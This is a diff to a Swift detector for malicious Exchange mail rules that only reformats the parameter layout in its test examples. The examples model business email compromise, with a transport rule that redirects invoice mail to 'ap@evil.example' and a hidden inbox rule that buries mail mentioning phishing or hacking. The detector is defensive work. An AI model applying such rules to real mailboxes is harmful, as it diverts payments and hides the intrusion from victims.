@@ -102,7 +102,10 @@ struct TransportRuleRedirect: Detector {
             DetectorExample("an existing rule changed to redirect invoices outside", .raises(.high)) { timeline in
                 timeline.cmdlet(
                     "Set-TransportRule", by: admin, from: .officeGB,
-                    parameters: ["Identity": "Finance routing", "SubjectOrBodyContainsWords": "invoice;remittance", "RedirectMessageTo": "smtp:ap@evil.example"])
+                    parameters: [
+                        "Identity": "Finance routing", "SubjectOrBodyContainsWords": "invoice;remittance",
+                        "RedirectMessageTo": "smtp:ap@evil.example",
+                    ])
             },
             DetectorExample("a rule silently deleting the bank's mail", .raises(.high)) { timeline in
                 timeline.cmdlet(
@@ -117,7 +120,9 @@ struct TransportRuleRedirect: Detector {
             DetectorExample("an internal copy created from a suspected address", .raises(.high)) { timeline in
                 timeline.cmdlet(
                     "New-InboxRule", by: admin, from: .hostingNL,
-                    parameters: ["Name": ".", "SubjectOrBodyContainsWords": "phishing;hacked", "MoveToFolder": "RSS Subscriptions", "MarkAsRead": "True"])
+                    parameters: [
+                        "Name": ".", "SubjectOrBodyContainsWords": "phishing;hacked", "MoveToFolder": "RSS Subscriptions", "MarkAsRead": "True",
+                    ])
                 timeline.advance(minutes: 10)
                 timeline.cmdlet(
                     "New-TransportRule", by: admin, from: .hostingNL,
@@ -136,7 +141,9 @@ struct TransportRuleRedirect: Detector {
             DetectorExample("a disclaimer rule", .silent) { timeline in
                 timeline.cmdlet(
                     "New-TransportRule", by: admin, from: .officeGB,
-                    parameters: ["Name": "External disclaimer", "FromScope": "NotInOrganization", "PrependSubject": "[EXTERNAL] ", "DeleteMessage": "False"])
+                    parameters: [
+                        "Name": "External disclaimer", "FromScope": "NotInOrganization", "PrependSubject": "[EXTERNAL] ", "DeleteMessage": "False",
+                    ])
             },
             DetectorExample("removing and disabling rules", .silent) { timeline in
                 timeline.cmdlet("Disable-TransportRule", by: admin, from: .officeGB, parameters: ["Identity": "Compliance copy"])
